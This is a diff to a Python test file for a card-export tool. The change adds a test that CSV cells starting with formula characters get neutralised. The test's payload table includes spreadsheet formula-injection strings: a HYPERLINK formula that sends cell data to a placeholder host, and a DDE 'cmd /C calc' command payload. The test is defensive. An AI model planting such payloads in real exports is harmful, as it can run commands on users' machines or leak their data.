@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import tracemalloc
 from pathlib import Path
@@ -75,7 +76,8 @@ async def test_every_format_streams_what_the_whole_run_holds_at_any_page_size() 
 
         csv_out = Collect()
         await write_cards(csv_out, "csv", storage, run, batch=batch)
-        rows = csv_out.text.splitlines()
+        rows = csv_out.text.split("\r\n")
+        assert rows.pop() == ""
         assert rows[0] == "document,ordinal,title,body,tags,quote,upload_id"
         assert [r.split(",")[0] for r in rows[1:]] == [names[c.upload_id] for c in cards]
 
@@ -118,3 +120,53 @@ def test_export_memory_does_not_grow_with_the_run(tmp_path: Path) -> None:
     print(f"export peak traced memory: {peaks}")
     # Ten times the cards, the same memory: one page, not the run.
     assert peaks[LARGE] < 1.5 * peaks[SMALL], peaks
+
+
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
+
+
+def test_csv_cells_that_would_run_as_formulas_are_neutralised(tmp_path: Path) -> None:
+    db = tmp_path / "formulas.db"
+    payloads = {
+        "=": '=HYPERLINK("http://x.invalid/"&A1,"click")',
+        "+": "+SUM(1,2)",
+        "-": "-2+3+cmd|' /C calc'!A0",
+        "@": "@SUM(1,2)",
+        "\t": "\t=1+1",
+        "\r": "\r=1+1",
+    }
+
+    async def fill() -> str:
+        async with SQLiteStorage.open(db) as storage:
+            names = [payloads[c] + ".md" for c in FORMULA_STARTS] + ["plain a=b.md"]
+            run = await storage.create_run(Document(n, b"x") for n in names)
+            uploads = await storage.list_uploads(run.id)
+            for start, upload in zip([*FORMULA_STARTS, ""], uploads, strict=True):
+                value = payloads.get(start, "a=b, 1+1\rand -1 inside")
+                draft = CardDraft(value, value, (value, "tag"), value)
+                await storage.complete_upload(upload.id, [draft])
+            return run.id
+
+    run_id = trio.run(fill)
+    out = tmp_path / "cards.csv"
+    export(run_id, "--db", str(db), "--format", "csv", "-o", str(out))
+    with out.open(newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    assert len(rows) == len(FORMULA_STARTS) + 1
+    for start, row in zip(FORMULA_STARTS, rows[:-1], strict=True):
+        value = payloads[start]
+        expected = {
+            "document": "'" + value + ".md",
+            "title": "'" + value,
+            "body": "'" + value,
+            "tags": "'" + value + "; tag",
+            "quote": "'" + value,
+        }
+        assert {k: row[k] for k in expected} == expected, repr(start)
+    # Text that does not start a formula is left exactly as it was.
+    plain = rows[-1]
+    assert plain["document"] == "plain a=b.md"
+    assert plain["title"] == plain["body"] == plain["quote"] == "a=b, 1+1\rand -1 inside"
+    # The other formats carry the text as it was written.
+    records = [json.loads(line) for line in export(run_id, "--db", str(db)).splitlines()]
+    assert [r["title"] for r in records[:-1]] == [payloads[c] for c in FORMULA_STARTS]
